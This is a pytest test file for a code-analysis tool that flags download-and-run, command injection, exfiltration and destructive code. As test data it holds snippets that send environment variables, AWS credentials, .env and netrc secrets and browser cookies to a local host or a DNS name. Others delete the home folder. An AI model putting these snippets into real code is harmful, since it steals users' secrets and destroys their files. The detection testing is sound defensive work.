"""One table of what library functions do is what flaws and malice are found by, in every language."""

from __future__ import annotations

import pytest

from codeguard.analysis import Reading
from codeguard.analysis.rules.base import DetectorContext
from codeguard.analysis.rules.capabilities import SIGNAL as CAPABILITIES
from codeguard.analysis.rules.insecure import SIGNAL as INSECURE
from codeguard.corpus.chunking import chunk_file


@pytest.mark.parametrize(
    "call",
    [
        "os.system({})",
        "ctypes.CDLL(None).system({})",
        "cdll.LoadLibrary('libc.so.6').popen({})",
        "invoke.run({})",
        "subprocess.run({}, shell=True)",
    ],
)
def test_a_sink_of_flaws_is_one_of_malice(call: str) -> None:
    fetched = call.format("requests.get('http://127.0.0.1/x').text")
    given = call.format("'ls ' + request.args['x']")
    text = (
        f"import ctypes, invoke, os, requests, subprocess\nfrom ctypes import cdll\nfrom flask import request\n"
        f"def load():\n    {fetched}\ndef view():\n    {given}\n"
    )
    reading = Reading(chunk_file("a.py", text.encode()))
    rules = {
        item.rule
        for signal in (CAPABILITIES, INSECURE)
        for item in signal.inspect(reading, DetectorContext())
    }
    assert {"download-and-run", "command-injection"} <= rules


# Ways of secrets, host names and the home folder to a sink, by the rule; none for what honest code does.
FLOWS = {
    "exfiltration": [
        "def go(data, send=requests.post):\n    send('http://127.0.0.1/c', json=data)\ngo(dict(os.environ))",
        "c = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.aws/credentials'))\n"
        "urlopen('http://127.0.0.1/c', data=c['default']['secret'].encode())",
        "requests.post('http://127.0.0.1/c', json=dotenv.dotenv_values('/app/.env'))",
        "requests.post('http://127.0.0.1/c', json=netrc.netrc().hosts)",
        "requests.post('http://127.0.0.1/c', data=open('/home/a/.acme/credentials').read())",
        "db = sqlite3.connect(os.path.expanduser('~/.config/x/Cookies'))\n"
        "requests.post('http://127.0.0.1/c', data=db.execute('select 1').fetchall())",
        "def report(data, pool=urllib3.PoolManager()):\n"
        "    pool.request('POST', 'http://127.0.0.1/c', body=data)\nreport(str(dict(os.environ)))",
        "def report(data=dict(os.environ)):\n    requests.post('http://127.0.0.1/c', json=data)",
        "class A:\n    def __init__(self):\n        self.data = dict(os.environ)\n    def go(self):\n"
        "        requests.post('http://127.0.0.1/c', json=self.data)",
        "libc = ctypes.CDLL(None)\nlibc.send(3, repr(dict(os.environ)).encode(), 9, 0)",
        "async def go():\n    r, w = await asyncio.open_connection('127.0.0.1', 80)\n"
        "    w.write(repr(dict(os.environ)).encode())",
        "socket.gethostbyname(os.environ['API_TOKEN'].encode().hex() + '.x.example')",
    ],
    "": [
        "c = configparser.ConfigParser()\nc.read('app.ini')\nrequests.get(c['api']['url'])",
        "v = dotenv.dotenv_values('.env')\n"
        "requests.get('http://127.0.0.1/c', headers={'Authorization': v['T']})",
        "key = (Path.home() / '.acme' / 'credentials').read_text()\n"
        "requests.post('http://127.0.0.1/c', json={}, headers={'Authorization': key})",
        "db = sqlite3.connect('app.db')\n"
        "requests.get('http://127.0.0.1/c', data=db.execute('select 1').fetchall())",
        "def fetch(url, pool=urllib3.PoolManager()):\n"
        "    return pool.request('GET', url, headers={'Authorization': os.environ['API_TOKEN']})",
        "libc = ctypes.CDLL(None)\nlibc.prctl(15, b'name', 0, 0, 0)",
        "socket.gethostbyname(os.environ['NAME'] + '.svc.cluster.local')",
        "for item in (Path.home() / '.mine').iterdir():\n    item.unlink()\nshutil.rmtree(Path.home() / 'x')",
        "for item in Path.home().glob('.mine-*'):\n    shutil.rmtree(item)",
    ],
    "destroys": [
        "for item in Path.home().iterdir():\n    shutil.rmtree(item)",
        "home = os.path.expanduser('~')\nfor name in os.listdir(home):\n    os.remove(os.path.join(home, name))",
        "for item in Path.home().rglob('*'):\n    item.unlink()",
    ],
}
IMPORTS = (
    "import asyncio, configparser, ctypes, dotenv, netrc, os, requests, shutil, socket, sqlite3, urllib3\n"
    "from pathlib import Path\nfrom urllib.request import urlopen\n"
)


@pytest.mark.parametrize(("rule", "code"), [(rule, code) for rule, codes in FLOWS.items() for code in codes])
def test_what_flows_where_is_found_whatever_reads_and_sends_it(rule: str, code: str) -> None:
    reading = Reading(chunk_file("a.py", f"{IMPORTS}{code}\n".encode()))
    found = {item.rule for item in CAPABILITIES.inspect(reading, DetectorContext())}
    assert found & {"exfiltration", "destroys"} == ({rule} if rule else set())
